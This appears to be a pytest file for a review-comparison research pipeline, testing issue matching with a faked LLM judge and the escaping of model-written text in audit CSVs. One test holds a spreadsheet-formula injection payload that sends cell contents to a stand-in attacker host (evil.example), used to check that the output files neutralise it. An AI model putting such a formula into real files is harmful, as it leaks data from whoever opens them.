"""EchoReview issue matching with unscored judge calls (experiments.stages.issues.score_paper, judge faked)."""

from __future__ import annotations

import math
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hydra import compose, initialize_config_module

from experiments.config import IssuesConfig, load
from experiments.stages import issues


def issues_config() -> IssuesConfig:
    """The typed config `python -m experiments.issues matcher=judge judge.structured_output=false` runs."""
    with initialize_config_module(config_module="conf", version_base="1.3"):
        cfg = compose(config_name="issues", overrides=["matcher=judge", "judge.structured_output=false"])
    return load(cfg, IssuesConfig)


CFG = issues_config()


def fake_verdicts(table: Mapping[tuple[str, str], bool | None]) -> Any:
    """A stand-in for `issues.judge_decisions`: the verdict of each (a, b) pair from `table` (default no)."""

    async def decide(
        judge: Any, rubric: Any, pairs: Sequence[tuple[str, str]], params: Any, structured: bool
    ) -> list[bool | None]:
        return [table.get(pair, False) for pair in pairs]

    return decide


@pytest.mark.parametrize("unscored", [("h0", "e1"), ("e0", "e1")])  # a cross call, a same-side call
def test_an_unscored_matching_call_leaves_the_review_out_and_is_counted(
    monkeypatch: pytest.MonkeyPatch, unscored: tuple[str, str]
) -> None:
    # h0 ~ e0 matched, all else "no": O = {h0}, E = {h0, e1}: overlap 1/3, human-only 1/2, model-only 1/2.
    # One call unscored: as "no" it gave those same numbers silently; now the review is unscored, counted.
    monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({("h0", "e0"): True}))
    ratios, decisions, _ = issues.score_paper(CFG, None, None, {}, None, ["h0", "h1"], ["e0", "e1"])
    assert (ratios["overlap"], ratios["human_only"], ratios["model_only"]) == pytest.approx((1 / 3, 0.5, 0.5))
    assert ratios["n_unscored"] == 0 and len(decisions) == 4
    monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({("h0", "e0"): True, unscored: None}))
    ratios, _, _ = issues.score_paper(CFG, None, None, {}, None, ["h0", "h1"], ["e0", "e1"])
    assert ratios["n_unscored"] == 1
    assert all(math.isnan(ratios[k]) for k in ("overlap", "human_only", "model_only"))


def test_model_written_statements_reach_the_audit_csvs_as_text(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Review 7, F4: an extracted weakness that starts like a spreadsheet formula is written with a leading quote
    (weaknesses.csv, matches.csv), so opening the audit files runs nothing; the counts stay numbers."""
    import types

    from experiments import inputs, judges
    from experiments.datasets.instances import Candidate, Instance

    ref = Candidate("h", "reference", "human review")
    insts = [Instance("p1", "cs", (), ref, (Candidate("m", "gen", "model review"),))]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    found = inputs.JudgingInputs(None, insts, Path("reviews.jsonl"))  # type: ignore[arg-type]
    monkeypatch.setattr(inputs, "load_study_inputs", lambda cfg, with_mode=False: found)
    monkeypatch.setattr(
        judges,
        "make_judge",
        lambda cfg: types.SimpleNamespace(cache=types.SimpleNamespace(close=lambda: None)),
    )
    monkeypatch.setattr(judges, "sampling_params", lambda cfg: {})

    async def extract(judge: Any, reviews: Any, params: Any) -> list[list[str]]:
        return [["No baseline."], [formula, "Weak evaluation."]]

    monkeypatch.setattr(issues, "extract_all", extract)
    monkeypatch.setattr(issues, "judge_decisions", fake_verdicts({}))
    issues.run_issues(CFG, tmp_path)
    weaknesses = pd.read_csv(tmp_path / "weaknesses.csv")
    assert "'" + formula in set(weaknesses["issue"]) and formula not in set(weaknesses["issue"])
    matches = pd.read_csv(tmp_path / "matches.csv")
    assert "'" + formula in set(matches["model_issue"])
    assert pd.api.types.is_numeric_dtype(pd.read_csv(tmp_path / "overlap_per_paper.csv")["n_human"])
